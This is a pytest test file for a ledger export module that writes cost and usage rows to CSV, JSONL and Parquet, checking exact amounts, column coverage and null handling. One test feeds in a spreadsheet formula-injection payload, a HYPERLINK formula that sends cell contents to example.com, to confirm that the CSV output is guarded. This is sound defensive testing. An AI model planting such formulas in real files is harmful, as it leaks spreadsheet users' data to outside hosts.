"""The formats of an export: exact, typed, and harmless in a spreadsheet."""

import csv
import io
import json
from collections.abc import Mapping, Sequence
from datetime import UTC, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import pyarrow.parquet as pq
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.world.clock import NOON_US
from tollway.cli.export import COLUMNS, WRITERS
from tollway.domain.money import usd
from tollway.store.schema import ledger

QUICKLY = settings(deadline=None, max_examples=100)
TEXT = st.text(st.characters(exclude_characters="\0", exclude_categories=["Cs"]), max_size=20)
MONEY = st.integers(-(2**63), 2**63 - 1)


def row(**changes: object) -> Mapping[str, Any]:
    """A row as the ledger has it: a call of $0.0424."""
    plain: dict[str, Any] = dict.fromkeys(column.name for column in ledger.c)
    costs = {
        f"{name}_{part}": value
        for name in ("cost", "vendor_cost")
        for part, value in (
            ("prompt_nano", 2_400_000),
            ("completion_nano", 40_000_000),
            ("by_unit", {"input": 2_400_000, "output": 40_000_000}),
        )
    }
    values = {
        "org_id": "org-1",
        "seq": 1,
        "ended_us": NOON_US,
        "request_id": "request-1",
        "attempt": 1,
        "final": True,
        "kind": "usage",
        "outcome": "settled",
        "status": 200,
        "app_id": "app-1",
        "app": "app",
        "key_id": "key-1",
        "provider": "demo",
        "model": "demo/small",
        "streamed": False,
        "labels": {"team": "blue"},
        "units": {"input": 6, "output": 25},
        "prompt_tokens": 6,
        "completion_tokens": 25,
        "price_version": "list@1",
        "vendor_price_version": "list@1",
        "started_us": NOON_US - 1,
        "journal_id": "journal-1",
        "journal_offset": 0,
        "folded_us": NOON_US + 1,
    }
    return {**plain, **values, **costs, **changes}


UNSETTLED = row(
    outcome="unsettled",
    units={},
    prompt_tokens=0,
    completion_tokens=0,
    held_nano=50_000,
    **{
        f"{name}_{part}": None
        for name in ("cost", "vendor_cost")
        for part in ("prompt_nano", "completion_nano", "by_unit")
    },
)


def written(kind: str, rows: Sequence[Mapping[str, Any]]) -> bytes:
    file = io.BytesIO()
    writer = WRITERS[kind](file)
    for one in rows:
        writer.write([one])
    writer.close()
    return file.getvalue()


def cells(*rows: Mapping[str, Any]) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(written("csv", rows).decode(), newline="")))


def objects(*rows: Mapping[str, Any]) -> list[dict[str, Any]]:
    return [json.loads(line) for line in written("jsonl", rows).splitlines()]


def arrow(*rows: Mapping[str, Any]) -> list[dict[str, Any]]:
    found: list[dict[str, Any]] = pq.read_table(io.BytesIO(written("parquet", rows))).to_pylist()
    return found


def test_every_format_has_every_column_in_the_same_order() -> None:
    names = [column.name for column in COLUMNS]
    assert len(set(names)) == len(names)
    assert list(cells(row())[0]) == list(objects(row())[0]) == list(arrow(row())[0]) == names
    assert written("csv", []).decode().split("\r\n")[0].split(",") == names
    assert written("jsonl", []) == b""
    assert pq.read_table(io.BytesIO(written("parquet", []))).column_names == names


def test_every_column_of_the_ledger_is_in_an_export() -> None:
    names = {column.name for column in COLUMNS}
    for column in ledger.c:
        name = column.name
        if name.endswith("_us") and name != "first_token_us":
            name = name.removesuffix("_us") + "_at"
        name = name.replace("_nano", "_usd")
        assert name in names or f"{name}_usd" in names, column.name


def test_the_documentation_names_every_column() -> None:
    page = (Path(__file__).parents[2] / "docs" / "ledger.md").read_text("utf-8")
    table = page.partition("## Export")[2]
    assert [column.name for column in COLUMNS if f"`{column.name}`" not in table] == []


def test_amounts_and_times_are_exact_text_in_csv_and_json() -> None:
    benchmark = {
        "benchmark_prompt_nano": 2_400_001,
        "benchmark_completion_nano": 1,
        "benchmark_by_unit": {"input": 2_400_001, "output": 1},
    }
    (shown,) = objects(row(**benchmark))
    assert (shown["cost_usd"], shown["cost_prompt_usd"], shown["cost_completion_usd"]) == (
        "0.0424",
        "0.0024",
        "0.04",
    )
    assert shown["cost_by_unit_usd"] == {"input": "0.0024", "output": "0.04"}
    assert (shown["benchmark_cost_usd"], shown["savings_usd"]) == ("0.002400002", "-0.039999998")
    assert shown["ended_at"] == "2026-03-10T12:00:00.000000Z"
    assert shown["started_at"] == "2026-03-10T11:59:59.999999Z"
    assert (shown["units"], shown["labels"]) == ({"input": 6, "output": 25}, {"team": "blue"})
    assert (shown["final"], shown["streamed"], shown["status"]) == (True, False, 200)
    (cell,) = cells(row(**benchmark))
    assert (cell["cost_usd"], cell["savings_usd"]) == ("0.0424", "-0.039999998")
    assert cell["cost_by_unit_usd"] == '{"input":"0.0024","output":"0.04"}'
    assert cell["units"] == '{"input":6,"output":25}'
    assert (cell["final"], cell["streamed"], cell["status"]) == ("true", "false", "200")


def test_parquet_has_decimals_timestamps_and_maps() -> None:
    schema = pq.read_schema(io.BytesIO(written("parquet", [row()])))
    assert str(schema.field("cost_usd").type) == "decimal128(38, 9)"
    assert str(schema.field("ended_at").type) == "timestamp[us, tz=UTC]"
    (shown,) = arrow(row())
    assert shown["cost_usd"] == Decimal("0.0424")
    assert shown["ended_at"] == datetime(2026, 3, 10, 12, tzinfo=UTC)
    assert shown["units"] == [("input", 6), ("output", 25)]
    assert shown["labels"] == [("team", "blue")]
    assert shown["cost_by_unit_usd"] == [("input", Decimal("0.0024")), ("output", Decimal("0.04"))]


def test_what_is_not_known_is_null_and_without_a_benchmark_nothing_is_saved() -> None:
    unknown = ["cost_usd", "vendor_cost_usd", "cost_by_unit_usd", "savings_usd", "benchmark_cost_usd"]
    for shown in (*objects(UNSETTLED), *arrow(UNSETTLED)):
        assert [shown[name] for name in unknown] == [None] * len(unknown)
    (cell,) = cells(UNSETTLED)
    assert ([cell[name] for name in unknown], cell["held_usd"]) == ([""] * len(unknown), "0.00005")
    assert (objects(row())[0]["savings_usd"], objects(row())[0]["benchmark_cost_usd"]) == ("0", None)


@QUICKLY
@given(MONEY, MONEY)
def test_no_amount_loses_a_digit(prompt: int, completion: int) -> None:
    money = row(cost_prompt_nano=prompt, cost_completion_nano=completion)
    assert cells(money)[0]["cost_usd"] == objects(money)[0]["cost_usd"] == usd(prompt + completion)
    assert arrow(money)[0]["cost_usd"] == Decimal(usd(prompt + completion))


@QUICKLY
@given(TEXT, st.dictionaries(TEXT, TEXT, max_size=3))
def test_text_comes_back_as_it_was(user: str, labels: dict[str, str]) -> None:
    odd = row(end_user=user, labels=labels)
    assert (objects(odd)[0]["end_user"], objects(odd)[0]["labels"]) == (user, labels)
    assert (arrow(odd)[0]["end_user"], dict(arrow(odd)[0]["labels"])) == (user, labels)
    (cell,) = cells(odd)
    assert json.loads(cell["labels"]) == labels
    guarded = cell["end_user"]
    assert guarded.removeprefix("'") == user if guarded != user else not user.startswith("'")


@pytest.mark.parametrize("begin", ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "'"])
def test_text_that_a_spreadsheet_would_run_is_guarded_in_csv_only(begin: str) -> None:
    formula = f'{begin}HYPERLINK("https://example.com/?"&A1)'
    odd = row(end_user=formula, labels={"=a": formula})
    assert cells(odd)[0]["end_user"] == f"'{formula}"
    assert cells(odd)[0]["labels"].startswith('{"')
    assert objects(odd)[0]["end_user"] == arrow(odd)[0]["end_user"] == formula


def test_a_number_below_nothing_is_no_formula() -> None:
    assert cells(row(status=-1, cost_prompt_nano=-(10**9)))[0]["cost_prompt_usd"] == "-1"


def test_many_rows_are_few_groups(tmp_path: Path) -> None:
    path = tmp_path / "rows.parquet"
    with path.open("wb") as file:
        writer = WRITERS["parquet"](file)
        for _ in range(25):
            writer.write([row()] * 1_000)
        writer.close()
    found = pq.ParquetFile(path)
    assert (found.metadata.num_rows, found.metadata.num_row_groups) == (25_000, 3)
    found.close()
